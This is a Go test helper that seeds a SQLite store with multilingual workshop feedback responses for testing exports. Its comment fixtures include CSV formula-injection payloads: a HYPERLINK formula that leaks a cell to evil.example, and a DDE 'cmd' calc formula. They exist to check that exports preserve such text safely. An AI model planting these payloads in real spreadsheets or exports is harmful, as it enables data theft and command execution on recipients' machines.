package export_test

import (
	"context"
	"fmt"
	"path/filepath"
	"testing"
	"time"

	"feedback/export"
	"feedback/forms"
	"feedback/forms/formstest"
	"feedback/store"
)

// The seeded forum, on the small forms file of formstest: a known set of
// responses to its two workshops, covering every question type and beta's
// own question, answers skipped here and there, text in Cyrillic, Arabic and
// Chinese, and texts that look like formulas. Beta has the most responses
// and the carriage-return formula (see TestCSV).
var seedCounts = map[string]int{"alpha": 13, "beta": 40}

// formulaTexts must come out of every export as the very text typed.
var formulaTexts = []string{
	`=1+1`,
	`=HYPERLINK("https://evil.example/?leak="&A1,"Click for details")`,
	`+SUM(A1:A9)`,
	`-2+3`,
	`@SUM(1,2)`,
	"\t=1+1",
	"\r=cmd|' /C calc'!A0",
}

var plainTexts = []string{
	"Очень полезный семинар, спасибо организаторам!",
	"ورشة عمل مفيدة جداً، شكراً للمنظمين",
	"非常有用的研讨会",
	"Practical tools we can use on Monday.",
	"Более длинные перерывы — и больше времени на вопросы.",
	"أتمنى المزيد من دراسات الحالة من منطقتنا",
}

var (
	sectorSeq = []string{"government", "government", "academia", "", "other", "government", "academia"}
	formats   = []string{"talks", "exercises"}
	// Four languages a turn to the texts' three, so that a comment's
	// language does not follow from its text (both go by the response's
	// number).
	langSeq = []string{"en", "fr", "ar", "fr"}
)

var seedStart = time.Date(2025, 6, 25, 9, 0, 0, 0, time.UTC)

// seedAnswers returns the answers of the i-th seeded response to workshop w;
// global numbers the response across workshops so that texts differ between
// workshops.
func seedAnswers(w *forms.Workshop, i, global int) forms.Answers {
	a := forms.Answers{"overall": {Number: 1 + (i*7+3)%5}}
	if i%4 != 0 {
		a["pace"] = forms.Answer{Number: 1 + (i*2)%3}
	}
	if i%6 != 5 {
		a["recommend"] = forms.Answer{Number: (i * 5) % 11}
	}
	if v := sectorSeq[i%len(sectorSeq)]; v != "" {
		a["sector"] = forms.Answer{Choices: []string{v}}
	}
	if i%7 != 0 {
		var chosen []string
		for b, f := range formats {
			if (i+1)&(1<<b) != 0 {
				chosen = append(chosen, f)
			}
		}
		if len(chosen) > 0 {
			a["formats"] = forms.Answer{Choices: chosen}
		}
	}
	switch global % 3 {
	case 0:
		a["comment"] = forms.Answer{Text: formulaTexts[(global/3)%len(formulaTexts)]}
	case 1:
		a["comment"] = forms.Answer{Text: plainTexts[(global/3)%len(plainTexts)]}
	}
	if w.Question("beta_idea") != nil && global%4 == 1 {
		a["beta_idea"] = forms.Answer{Text: fmt.Sprintf("%s (#%d)", plainTexts[global%len(plainTexts)], global)}
	}
	return a
}

// seeded is the seeded forum as the test knows it, to compute every figure
// itself.
type seeded struct {
	db        *store.DB
	forms     *forms.Forms
	responses []*forms.Response // in submission order, with their public ids
}

// byWorkshop returns the seeded responses to one workshop.
func (s *seeded) byWorkshop(slug string) []*forms.Response {
	var out []*forms.Response
	for _, r := range s.responses {
		if r.Workshop == slug {
			out = append(out, r)
		}
	}
	return out
}

// source is the store's EachResponse bound to a workshop, as the app hands
// it to the export.
func (s *seeded) source(slug string) export.Source {
	return func(ctx context.Context, fn func(*forms.Response) error) error {
		return s.db.EachResponse(ctx, store.Filter{Workshop: slug}, fn)
	}
}

// seed stores the seeded forum, on formstest's small forms file, in a real
// SQLite file.
func seed(t testing.TB) *seeded {
	t.Helper()
	return seedForms(t, formstest.Small(t), seedCounts, func(w *forms.Workshop, i, global int) (string, forms.Answers) {
		return langSeq[global%len(langSeq)], seedAnswers(w, i, global)
	})
}

// seedForms stores counts[slug] responses to each workshop of f, in a real
// SQLite file; answers gives the language and answers of the i-th response
// to a workshop, the global-th in all.
func seedForms(t testing.TB, f *forms.Forms, counts map[string]int, answers func(w *forms.Workshop, i, global int) (lang string, a forms.Answers)) *seeded {
	t.Helper()
	ctx := context.Background()
	db, err := store.Open(ctx, filepath.Join(t.TempDir(), "feedback.db"), store.Options{})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	s := &seeded{db: db, forms: f}
	global := 0
	// Interleave the workshops, as at the forum, so the export cannot rely
	// on responses arriving grouped.
	for i := 0; ; i++ {
		more := false
		for _, w := range f.Workshops {
			if i >= counts[w.Slug] {
				continue
			}
			more = true
			lang, a := answers(w, i, global)
			r := &forms.Response{
				SubmissionID: fmt.Sprintf("00000000-0000-4000-8000-%012d", global),
				Workshop:     w.Slug,
				Lang:         lang,
				Source:       forms.Sources[global%len(forms.Sources)],
				SubmittedAt:  seedStart.Add(time.Duration(global) * time.Minute),
				Answers:      a,
			}
			saved, err := db.SaveResponse(ctx, r)
			if err != nil {
				t.Fatal(err)
			}
			r.ID = saved.ID
			s.responses = append(s.responses, r)
			global++
		}
		if !more {
			break
		}
	}
	return s
}
